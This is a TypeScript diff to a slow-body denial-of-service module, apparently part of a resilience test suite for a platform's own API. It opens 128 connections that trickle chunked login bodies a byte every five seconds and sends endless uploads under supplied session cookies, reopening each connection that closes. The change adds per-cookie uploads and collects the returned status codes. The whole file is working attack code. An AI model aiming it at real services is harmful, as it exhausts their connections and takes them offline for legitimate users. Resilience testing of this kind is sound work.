@@ -1,33 +1,27 @@
 import { setMaxListeners } from 'node:events';
 import { connect, type Socket } from 'node:net';
 import { setTimeout as pause } from 'node:timers/promises';
+import { AGAIN_AFTER_MS, type Attack } from './attack.js';
 
 /** As many as a gateway has connections to an instance of an owner. */
 const SLOW_LOG_INS = 128;
-const ENDLESS_UPLOADS = 4;
 const BYTE_EVERY_MS = 5_000;
 const UPLOAD_BYTES = Buffer.alloc(64 * 1024, 1);
-const AGAIN_AFTER_MS = 100;
+const STATUS = /^HTTP\/1\.1 (\d{3})/;
 
 const LOG_IN = ['POST /api/v1/auth/login HTTP/1.1', 'content-type: application/json'];
 const UPLOAD = ['PATCH /api/v1/user/update HTTP/1.1', 'content-type: multipart/form-data; boundary=x'];
 const PART = '--x\r\ncontent-disposition: form-data; name="file"; filename="a.png"\r\ncontent-type: image/png\r\n\r\n';
 
-export interface Attack {
-  start(): void;
-  /** Resolves when all its connections have ended. */
-  stop(): Promise<void>;
-}
-
 /**
- * Log-ins in chunks, a byte each five seconds, and uploads without an end, which are refused as nobody is signed in but
- * go on sending. Each connection that ends is opened again, for as long as the attack lasts.
- * @param address of the platform, such as http://localhost:8080
+ * Log-ins in chunks, a byte each five seconds, and an upload without an end of each rider, who go on sending when they are
+ * refused. Each connection that ends is opened again, for as long as the attack lasts.
  */
-export function slowBodies(address: string): Attack {
+export function slowBodies(address: string, cookies: readonly string[]): Attack {
   const { hostname, port, host } = new URL(address);
   const stopping = new AbortController();
-  setMaxListeners(SLOW_LOG_INS + ENDLESS_UPLOADS, stopping.signal);
+  setMaxListeners(SLOW_LOG_INS + cookies.length, stopping.signal);
+  const answers: string[] = [];
   const attackers: Promise<void>[] = [];
 
   const attack = async (head: readonly string[], send: (socket: Socket) => void): Promise<void> => {
@@ -36,13 +30,19 @@ export function slowBodies(address: string): Attack {
       const end = () => void socket.destroy();
       stopping.signal.addEventListener('abort', end);
       // A refused or reset connection is what the platform may do; it ends, and is opened again.
-      socket.on('error', () => undefined).resume();
+      socket.on('error', () => undefined);
+      let answer = 'closed';
+      socket.once('data', (bytes) => {
+        answer = STATUS.exec(bytes.toString('latin1'))?.[1] ?? answer;
+        socket.resume();
+      });
       const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
       socket.once('connect', () => {
         socket.write([...head, `host: ${host}`, 'transfer-encoding: chunked', '', ''].join('\r\n'));
         send(socket);
       });
       await closed;
+      if (!stopping.signal.aborted) answers.push(answer);
       stopping.signal.removeEventListener('abort', end);
       await pause(AGAIN_AFTER_MS);
     }
@@ -51,11 +51,12 @@ export function slowBodies(address: string): Attack {
   return {
     start() {
       for (let count = 0; count < SLOW_LOG_INS; count += 1) attackers.push(attack(LOG_IN, trickle));
-      for (let count = 0; count < ENDLESS_UPLOADS; count += 1) attackers.push(attack(UPLOAD, flood));
+      for (const cookie of cookies) attackers.push(attack([...UPLOAD, `cookie: ${cookie}`], flood));
     },
     async stop() {
       stopping.abort();
       await Promise.all(attackers);
+      return answers;
     },
   };
 }
